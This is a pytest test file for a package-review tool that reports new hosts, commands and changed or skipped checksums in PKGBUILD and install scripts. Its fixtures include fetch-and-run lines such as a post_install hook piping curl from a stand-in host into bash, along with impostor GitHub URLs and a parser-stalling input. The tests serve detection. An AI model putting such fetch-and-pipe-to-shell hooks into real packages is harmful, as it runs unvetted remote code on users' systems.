"""What is new in a package by name, and the pages about it."""

from __future__ import annotations

import time

import pytest

from ci_toolkit.model.finding import Assessment
from ci_toolkit.model.observation import UpstreamFile
from ci_toolkit.review.facts import Facts, facts_of
from ci_toolkit.review.links import source_comparison
from ci_toolkit.review.report import describe
from ci_toolkit.review.subject import ReviewSubject


def file(text: str) -> UpstreamFile:
    return UpstreamFile(mode="100644", content=text.encode(errors="surrogateescape"))


def test_new_hosts_commands_and_checksums_are_named() -> None:
    old = {
        "PKGBUILD": file(f"source=(https://a.example/x)\nsha256sums=('{'1' * 64}' '{'2' * 64}')\nbuild() {{ make; }}\n")
    }
    new = {
        "PKGBUILD": file(
            "source=(https://u:p@B.example:8080/x git+https://a.example/y) # http://comment.example\n"
            f"sha256sums=('{'1' * 64}' 'SKIP')\nbuild() {{ make; if true; then (wget x | sh); fi; x=$(npm i); }}\n"
        ),
        "foo.install": file("post_install() {\n  curl http://c.example | \\\n bash\n}\n"),
        "logo.png": UpstreamFile(mode="100644", content=b"\0http://binary.example"),
    }
    facts = facts_of(old, new)
    assert facts.hosts == (("b.example:8080", "PKGBUILD"), ("c.example", "foo.install"))
    assert [name for name, _ in facts.commands] == ["true", "wget", "sh", "npm", "curl", "bash"]
    (change,) = facts.checksums
    assert (change.array, change.new) == ("sha256sums", ("1" * 64, "SKIP"))
    body = describe(ReviewSubject(pkgbase="foo", assessment=Assessment(), facts=facts)).body
    assert "- **New hosts:** `b.example:8080` in `PKGBUILD`; `c.example` in `foo.install`" in body
    assert "- **New commands:** `true`, `wget`, `sh`, `npm` in `PKGBUILD`; `curl`, `bash` in `foo.install`" in body
    assert "- **Changed checksums:** `sha256sums`: 1 of 2 changed, **1 skipped now**: `222222222222…` → `SKIP`" in body


def test_a_package_that_is_equal_has_no_news() -> None:
    files = {"PKGBUILD": file("source=(https://a.example)\nsha256sums=($x)\nbuild() { make; }\n")}
    assert facts_of(files, files) == Facts()


@pytest.mark.parametrize(
    ("old", "new", "page"),
    [
        (
            "foo-1.tar.gz::https://github.com/o/n/archive/refs/tags/v1.0.tar.gz",
            "foo-2.tar.gz::https://github.com/o/n/archive/refs/tags/v2.0.tar.gz",
            "https://github.com/o/n/compare/v1.0...v2.0",
        ),
        (
            "https://github.com/o/n/releases/download/1.0/n-1.0.tgz",
            "https://github.com/o/n/releases/download/1.1/n-1.1.tgz",
            "https://github.com/o/n/compare/1.0...1.1",
        ),
        (
            "https://gitlab.com/g/sub/n/-/archive/v1/n-v1.tar.gz",
            "https://gitlab.com/g/sub/n/-/archive/v2/n-v2.tar.gz",
            "https://gitlab.com/g/sub/n/-/compare/v1...v2",
        ),
        ("https://github.com/o/n/archive/v1.tar.gz", "https://github.com/evil/n/archive/v2.tar.gz", None),
        ("https://github.com/o/n/archive/v1.tar.gz", "https://github.com.evil.example/o/n/archive/v2.tar.gz", None),
        ("https://github.com/o/n/archive/v1.tar.gz", "https://github.com/o/n/archive/v1.tar.gz", None),
    ],
)
def test_sources_are_compared_where_their_service_can(old: str, new: str, page: str | None) -> None:
    assert source_comparison([old], [new]) == page


@pytest.mark.parametrize(
    ("upstream", "old", "new", "page"),
    [
        ("https://github.com/o/n.git", "a" * 40, "b" * 40, f"https://github.com/o/n/compare/{'a' * 40}...{'b' * 40}"),
        ("github:o/n", f"1.0:{'a' * 40}", f"2.0:{'b' * 40}", f"github.com/o/n/compare/{'a' * 40}...{'b' * 40}"),
        ("https://gitlab.com/o/n", "a" * 40, "b" * 40, f"https://gitlab.com/o/n/-/compare/{'a' * 40}...{'b' * 40}"),
        ("gitlab:12345", None, None, "https://gitlab.com/projects/12345"),
        ("gitea:git.example.org/o/n", None, None, "https://git.example.org/o/n"),
    ],
)
def test_upstreams_have_their_pages(upstream: str, old: str | None, new: str | None, page: str) -> None:
    body = describe(
        ReviewSubject(pkgbase="foo", assessment=Assessment(), upstream=upstream, old_revision=old, revision=new)
    ).body
    assert page in body


def test_what_an_enemy_wrote_to_be_slow_is_not_waited_for() -> None:
    started_s = time.process_time()
    facts = facts_of({}, {"PKGBUILD": file("$(" * 400_000), "x.install": file("curl x\n" * 10)})
    assert time.process_time() - started_s < 3
    assert facts.commands == (("(not looked for in 800,000 bytes)", "PKGBUILD"), ("curl", "x.install"))
